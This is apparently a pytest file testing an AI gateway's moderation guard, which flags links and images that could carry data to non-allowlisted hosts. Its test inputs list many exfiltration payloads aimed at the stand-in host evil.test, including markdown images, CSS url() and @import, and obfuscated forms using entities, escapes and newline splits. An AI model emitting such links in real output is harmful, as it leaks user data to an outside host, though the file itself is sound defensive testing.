"""Addresses that carry data away, and addresses that do not."""

from __future__ import annotations

import pytest

from aigw.guards import Moderation
from guards.contract import found


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("![x](https://evil.test/a.png)", "https://evil.test/a.png"),
        ("![x](<https://evil.test/a.png>)", "https://evil.test/a.png>"),
        ('<img width="1" src="https://evil.test/p">', "https://evil.test/p"),
        ("![x][r]\n\n[r]: https://evil.test/p.png", "https://evil.test/p.png"),
        ("background: url('https://evil.test/p')", "https://evil.test/p"),
        (f"[click](https://evil.test/?q={'a' * 60})", f"https://evil.test/?q={'a' * 60}"),
        (f"see https://evil.test/{'b' * 60}", f"https://evil.test/{'b' * 60}"),
        (f"https://{'c' * 50}.evil.test/", f"https://{'c' * 50}.evil.test/"),
        ("![x](//evil.test/a.png)", "//evil.test/a.png"),
    ],
)
def test_links_that_carry_data_away(text, url):
    """Images of hosts that are not allowed, in any notation, and links to them with much in them."""
    ((kind, piece),) = found(Moderation(links=["example.org"]), text)

    assert kind == "EXFILTRATION"
    assert piece.strip(">") == url.strip(">")
    assert found(Moderation(links=["evil.test"]), text) == []


@pytest.mark.parametrize(
    "text",
    ["https://docs.python.org/3/library/re.html", "![x](https://img.example.org/a.png)", "no // link", "http://[::1"],
)
def test_links_that_carry_nothing(text):
    """Ordinary links, and images of hosts that are known, with those below them."""
    assert found(Moderation(links=["example.org"]), text) == []


@pytest.mark.parametrize(
    "text",
    [
        "![a `][` b](https://evil.test/a)",
        "![a [b] c](//evil.test/a)",
        "[![a](https://evil.test/a)](https://example.org/)",
        "![a](http:evil.test/a)",
        "![a](https:\\\\evil.test/a)",
        "![a](&#104;ttps://evil.test/a)",
        "![a](https://example.org@evil.test/a)",
        "![a](https://example.org.evil.test/a)",
        '<img src="https://example.org\n.evil.test/a">',
        "<IMG\nalt='>' SRC = //evil.test/a>",
        '<link rel="stylesheet" href="//evil.test/a">',
        '<a href="https://evil.test/?q=%74%68%65%20%73%65%63%72%65%74%20%69%73">',
        "<https://evil.test/?" + "d" * 41 + ">",
        "[a](https://evil.test/" + "/".join(["word"] * 60) + ")",
        "联系https://evil.test/" + "d" * 41,
        "www.evil.test/?" + "d" * 41,
        '{"html": "<img src=\\"https:\\/\\/evil.test\\/a\\">"}',
        '{"text": "one\\n[r]: https://evil.test/a"}',
        '{"text": "![a](\\u0068ttps:\\u002f/evil.test/a)"}',
        "![a](https\\://evil.test/a)",
        '<img src="&#1;https://evil.test/a">',
        '<img src="ht\ntps://evil.test/a">',
        '<img src="h\nttps:\nevil.test">',
        '<img src="' + "\n" * 99 + 'https://evil.test/a">',
        "<style>a{background:url(\\68ttps://evil.test/a)}",
        "[r]: https://evil.test/a",
        '<div style="background:url(//evil.test/a)">',
        "@import '//evil.test/a.css'",
        "https://example.org/go?to=https://evil.test/?" + "d" * 41,
    ],
)
def test_more_ways_to_carry_data_away(text):
    """By what browsers make of an address, and by what stands around it."""
    found_here = found(Moderation(links=["example.org"]), text)

    assert [kind for kind, _ in found_here] == ["EXFILTRATION"]
    assert "evil" in found_here[0][1]


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://evil.test/docs/a-page-with-a-longer-name) and `vec![1](x)`",
        '<a href="https://evil.test/a">a</a>',
        "![a](/img/a.png) ![b](img/b.png) ![c](https://EXAMPLE.org./c.png)",
        "import x from 'https'; a // comment; http: and https://",
        "![a](https://img.example.org:443/a.png?width=200)",
    ],
)
def test_more_that_carries_nothing(text):
    """Links to pages, images of known hosts, and what only looks like an address."""
    assert found(Moderation(links=["*.example.org"]), text) == []


@pytest.mark.parametrize(
    "text",
    ["![a](https://[2001:db8::1]/a)", "![a](//[2001:db8::1]:8080/)", "see https://[2001:db8::1]/?" + "d" * 41],
)
def test_addresses_of_numbers(text):
    """Hosts without a name are unknown as well."""
    ((kind, piece),) = found(Moderation(links=["example.org"]), text)

    assert kind == "EXFILTRATION"
    assert "[2001:db8::1]" in piece
